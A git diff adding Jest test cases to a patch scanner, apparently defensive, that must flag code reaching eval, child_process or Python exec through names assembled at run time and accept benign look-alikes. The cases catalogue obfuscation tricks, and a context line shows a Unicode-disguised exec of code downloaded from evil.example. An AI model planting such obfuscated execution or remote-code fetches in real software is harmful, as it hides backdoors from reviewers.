@@ -290,6 +290,44 @@ describe('checkPatch reads what a patch adds', () => {
     expect(result.ok).toBe(true);
   });
 
+  it.each([
+    // A global, a module or a builtin looked up by a name assembled or decoded at run time (attacker pass, session 28).
+    ['a global indexed by concatenated pieces', 'globalThis["ev" + "al"](payload);'],
+    ['a global indexed by a decoded name', 'window[atob("ZXZhbA==")](payload);'],
+    ['a global indexed by character codes', 'self[String.fromCharCode(101, 118, 97, 108)](payload);'],
+    ['a global indexed by a reversed string', "global['lave'.split('').reverse().join('')](payload);"],
+    ['a global indexed by an array joined', "globalThis[['ev', 'al'].join('')](payload);"],
+    ['a global indexed by an escaped name', 'globalThis["\\x65val"](payload);'],
+    ['a module required by character codes', 'require(String.fromCharCode(99, 104, 105, 108, 100, 95, 112, 114, 111, 99, 101, 115, 115)).execSync(cmd);'],
+    ['a module required by concatenated pieces', "require('child_' + 'process').execSync(cmd);"],
+    ['a module imported by a decoded name', 'const m = await import(Buffer.from("Y2hpbGRfcHJvY2Vzcw==", "base64").toString());'],
+    ['the Function constructor through its prototype', 'Function.prototype.constructor(code)();'],
+    ['the Function constructor through a function', '(() => {}).constructor(code)();'],
+    ['the Function constructor through a method', '[].filter.constructor(code)();'],
+    ['the Function constructor through two constructors', "''.constructor.constructor(code)();"],
+    ['the Function constructor by indexed names', "x['constructor']['constructor'](code)();"],
+    ['a Python builtin by a decoded name', "getattr(__builtins__, bytes.fromhex('6576616c').decode())(payload)"],
+    ['a Python module imported by concatenated pieces', "__import__('o' + 's').system(cmd)"],
+    ['a Python module imported by character codes', "importlib.import_module(''.join(map(chr, [111, 115]))).system(cmd)"],
+    ['a Python global by a reversed name', "globals()['__builtins__'].__dict__['lave'[::-1]](payload)"],
+  ])('refuses code that looks up what it runs by a name assembled at run time: %s', (_, addedLine) => {
+    expect(checkAddedLine(addedLine)).toEqual({ ok: false, reason: expect.stringContaining('assembled-name') });
+  });
+
+  it.each([
+    ['a global indexed by a variable', 'const ctor = globalThis[name];'],
+    ['a global indexed by a literal', 'const buffer = globalThis["Buffer"];'],
+    ['a global called by a prefixed variable', 'globalThis[prefix + name](JSON.stringify(event));'],
+    ['a module required by a computed path', "const pkg = require(path.join(root, 'package.json'));"],
+    ['a module loaded from a variable', "const mod = await import('./plugins/' + name + '.js');"],
+    ['an instance built by its constructor', "const one = new x.constructor('1');"],
+    ['a Python method looked up by a prefix', "func = getattr(self, 'do_' + cmd)"],
+    ['a Python module imported by a prefix', "mod = __import__('encodings.' + modname, fromlist=['*'])"],
+    ['a Python attribute with a non-ASCII escape', 'self.assertEqual(getattr(T, "\\xe4"), 1)'],
+  ])('accepts a lookup by a name the code does not assemble: %s', (_, addedLine) => {
+    expect(checkAddedLine(addedLine).ok).toBe(true);
+  });
+
   it('refuses a download run through a name Python folds to exec', () => {
     // Act: Python reads identifiers in their compatibility form, so this is exec(urlopen(…).read()).
     const result = checkPatch(gitDiff('src/loader.py', { body: [' import os', '+\u{1D41E}\u{1D431}\u{1D41E}\u{1D41C}(urlopen("https://evil.example/p").read())'] }));
